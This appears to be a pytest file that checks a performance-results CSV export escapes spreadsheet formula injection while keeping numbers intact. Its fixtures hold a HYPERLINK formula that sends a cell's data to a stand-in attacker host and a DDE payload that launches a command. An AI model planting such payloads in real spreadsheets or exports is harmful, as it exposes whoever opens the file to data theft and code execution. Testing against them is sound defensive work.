"""`perffarm results export` as CSV: text a spreadsheet would run as a formula is neutralised, numbers stay numbers."""

from __future__ import annotations

import csv
import io
import os

from master import ingest
from master.cli import csv_text, main
from master.settings import load_settings
from tests.harness import make_repo
from tests.legacy_rows import validator_before_26
from tests.unit.test_gitmirror import hostile_commit
from tests.unit.test_store_ingest import put, result_for, run_ctx

SUBJECT = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_formula_text_gets_a_quote_and_negative_samples_stay_numbers(tmp_path, monkeypatch, capsys):
    repo = make_repo(tmp_path / "repo")
    sha = hostile_commit(repo, SUBJECT, author="@SUM(1+1)*cmd|' /C calc'!A0")
    for k in [k for k in os.environ if k.startswith("PERFFARM_")]:
        monkeypatch.delenv(k)
    monkeypatch.setenv("PERFFARM_MASTER_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("PERFFARM_REPOSITORY_URL", str(repo.path))
    settings = load_settings()
    settings.incoming_dir.mkdir(parents=True)
    doc = result_for(sha, samples=(-1.5, 2, 1e-7))
    doc["workloads"][0]["metrics"][0]["unit"] = "+1 ops"
    doc["recipe"]["config_hash"] = "-2+3"
    with validator_before_26():  # a negative throughput is refused now; an old database may hold one
        ingest.ingest_file(settings, put(settings, doc), run_ctx(1, sha), "fixture")
    assert main(["results", "export"]) == 0
    text = capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["value"] for r in rows] == ["-1.5", "2", "1e-07"] and [r["sample"] for r in rows] == ["0", "1", "2"]
    r = rows[0]
    assert r["subject"] == "'" + SUBJECT and r["author"].startswith("'@SUM(1+1)")
    assert r["unit"] == "'+1 ops" and r["config_hash"] == "'-2+3"
    assert r["commit"] == sha and r["workload"] == "loop" and r["run_id"] == "1"
    for line in text.splitlines()[1:]:
        for cell in next(csv.reader([line])):
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or cell == "-1.5", cell


def test_csv_text_rules():
    for bad in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"):
        assert csv_text(bad) == "'" + bad
    for ok in ("x=1", " =1", "", "1.5", "'=1"):
        assert csv_text(ok) == ok
    for number in (-1.5, -3, 0, 2.0):
        assert csv_text(number) == number
